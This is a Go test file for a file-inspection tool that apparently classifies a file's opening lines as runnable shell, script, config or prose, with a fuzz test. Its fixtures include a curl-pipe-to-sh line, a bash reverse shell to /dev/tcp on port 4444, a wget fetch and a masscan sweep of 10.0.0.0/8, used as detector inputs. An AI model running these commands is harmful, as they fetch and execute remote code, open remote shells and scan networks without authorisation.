package place_test

import (
	"testing"

	"github.com/lazaret/lazaret/inspect"
	"github.com/lazaret/lazaret/inspect/internal/place"
)

// What is run need not say so: its first words do.
func TestRunAs(t *testing.T) {
	for _, tt := range []struct {
		path, head string
		want       place.Kind
	}{
		{"opt/x", "curl -s http://a.example | sh\n", place.Launch},
		{"opt/x", "\n# a job\nset -eu\n", place.Launch},
		{"opt/x", "A=1\nB='c'\nnohup /opt/y &\n", place.Launch},
		{"opt/x", "while :; do\n  y\ndone\n", place.Launch},
		{"opt/x", "for f in /opt/*; do . $f; done\n", place.Launch},
		{"opt/x", "if [ -f /y ]; then /y; fi\n", place.Launch},
		{"opt/x", "masscan 10.0.0.0/8 -p22 --rate 1000\n", place.Launch},
		{"opt/x", "./y\n", place.Launch},
		{"opt/x.conf", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", place.Launch},
		{"opt/x.txt", "wget -qO- http://a.example/y\n", place.Launch},
		{"opt/x", "date\ncurl -s y\n", place.Launch},
		{"opt/x", "f() {\n  y\n}\n", place.Launch},
		{"opt/x", "import os\n", place.Script},
		{"opt/x", "\"\"\"\nWhat this is for.\n\"\"\"\nimport os\n", place.Script},
		{"opt/x", "/*\n What this is for.\n*/\nconst a = 1;\n", place.Script},
		{"opt/x", "\"use strict\";\nconst a = 1;\n", place.Script},
		{"opt/x", "const net = require('net')\n", place.Script},
		{"opt/x", "<?php system('y');\n", place.Script},
		{"opt/x", "use Socket;\n", place.Script},
		{"opt/x", "require 'socket'\n", place.Script},
		{"opt/x", "-- a job\nlocal s = require('socket')\n", place.Script},
		{"opt/x", "s = socket.socket()\n", place.Script},
		{"opt/x", "system(\"y\");\n", place.Script},
		// What it is by its name or its first line stays.
		{"opt/x.sh", "import os\n", place.Launch},
		{"opt/x", "#!/usr/bin/python3\ncurl -s y\n", place.Script},
		{"opt/x.c", "import os\n", place.Source},
		{"opt/x", "\x7fELF", place.Binary},
		// Settings, lists and prose are not run.
		{"opt/x", "", place.Other},
		{"opt/x", "for more about this see the manual\n", place.Other},
		{"opt/x", "set the value to one\n", place.Other},
		{"opt/x", "if the server is slow\n", place.Other},
		{"opt/x", "listen 80\n", place.Other},
		{"opt/x", "A=1\nB=2\n", place.Other},
		{"opt/x", "one\ntwo\nthree\nfour\ncurl -s y\n", place.Other},
		{"opt/x", "/* import os\nimport os\n", place.Other},
		{"opt/x", "# only a comment\n", place.Other},
		{"etc/shells", "# valid shells\n/bin/sh\n/bin/bash\n", place.Other},
		{"var/lib/x.list", "/.\n/usr\n/usr/bin\n", place.Other},
		{"opt/x", "{\"a\": 1}\n", place.Other},
		{"opt/x", "curl\x00 -s y\n", place.Other},
		{"opt/x.conf", "source = \"y\"\n", place.Config},
		{"opt/x.conf", "user nginx;\nworker_processes auto;\n", place.Config},
		{"opt/x.yaml", "- name: x\n  run: curl y\n", place.Config},
		{"opt/x.txt", "find out how to use it -a\n", place.Prose},
		{"opt/x.txt", "import the certificate\n", place.Prose},
		{"app/node_modules/x/y", "curl -s z\n", place.Other},
		{"opt/README", "from here to there\n", place.Prose},
	} {
		f := &inspect.File{Path: tt.path, Mode: 0o644, Size: int64(len(tt.head)), Head: []byte(tt.head)}
		if got := place.RunAs(f); got != tt.want {
			t.Errorf("%s, %q: %d, want %d", tt.path, tt.head, got, tt.want)
		}
		if loose := place.Loose(f); loose != (place.RunAs(f) != place.KindOf(f)) {
			t.Errorf("%s, %q: loose is %v", tt.path, tt.head, loose)
		}
	}
	env := &inspect.File{Path: "config:labels", Type: inspect.Document, Head: []byte("curl -s y\n")}
	if place.Loose(env) {
		t.Error("a part of a config is loose")
	}
}

// Any head is sorted, and without a panic.
func FuzzRunAs(f *testing.F) {
	for _, s := range []string{"", "\n", "$", "./", "=", "a=", "# \n\n", "if", "for ", "set -", "<?", "\"", "\xff", "x -", "x --y", "require ", "my "} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, head string) {
		as := place.RunAs(&inspect.File{Path: "x", Head: []byte(head[:min(512, len(head))])})
		if as == place.Prose || as == place.Config || as == place.Source {
			t.Errorf("%q is run as %d", head, as)
		}
	})
}
